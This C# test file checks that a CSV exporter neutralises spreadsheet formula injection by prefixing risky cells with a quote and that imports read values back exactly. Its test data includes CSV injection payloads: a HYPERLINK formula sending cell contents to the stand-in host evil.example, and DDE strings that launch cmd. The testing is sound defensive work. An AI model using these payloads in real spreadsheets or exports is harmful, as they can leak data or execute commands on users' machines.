using Sophia.Model.Csv;

namespace Sophia.Model.Tests.Csv;

/// <summary>An export never hands a spreadsheet a formula, and an import reads back exactly what was exported.</summary>
public sealed class CsvInjectionTests
{
    private sealed record Row(string Label, string? Phone);

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Clic\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("+33 1 85 73 76 36 =A1")]
    public async Task A_cell_a_spreadsheet_would_run_goes_out_behind_a_quote(string label)
    {
        var csv = await Export(new Row(label, null));

        var cell = Cells(csv)[0];
        Assert.Equal("'" + label, cell);
    }

    [Theory]
    [InlineData("+33185737636")]
    [InlineData("+33 1 85 73 76 36 +33 1 85 73 76 37")]
    [InlineData("-")]
    [InlineData("Seldon")]
    [InlineData("O'Brien")]
    public async Task Phone_numbers_and_plain_text_go_out_as_they_are(string label)
    {
        var csv = await Export(new Row(label, null));

        Assert.Equal(label, Cells(csv)[0]);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-Seldon")]
    [InlineData("@Seldon")]
    [InlineData("\t=1+1")]
    [InlineData("'=1+1")]
    [InlineData("''=1+1")]
    [InlineData("'+33185737636")]
    [InlineData("'quoted")]
    [InlineData("'")]
    [InlineData("+33185737636")]
    [InlineData("O'Brien")]
    public async Task What_an_export_writes_an_import_reads_back_exactly(string label)
    {
        var csv = await Export(new Row(label, "+33185737636"));

        using var table = CsvTable.Open(new StringReader(csv), ["label", "phone"], "label, phone");
        Assert.True(table.Read());
        Assert.Equal(label, table.Get("label"));
        Assert.Equal("+33185737636", table.Get("phone"));
    }

    private static async Task<string> Export(Row row)
    {
        await using var writer = new StringWriter();
        await CsvExport.WriteAsync(writer, [row]);
        return writer.ToString();
    }

    /// <summary>The raw cells of the first data row, unquoted by a plain CSV reader that strips nothing else.</summary>
    private static List<string> Cells(string csv)
    {
        using var parser = new CsvHelper.CsvParser(new StringReader(csv), System.Globalization.CultureInfo.InvariantCulture);
        parser.Read();
        parser.Read();
        return [.. parser.Record!];
    }
}
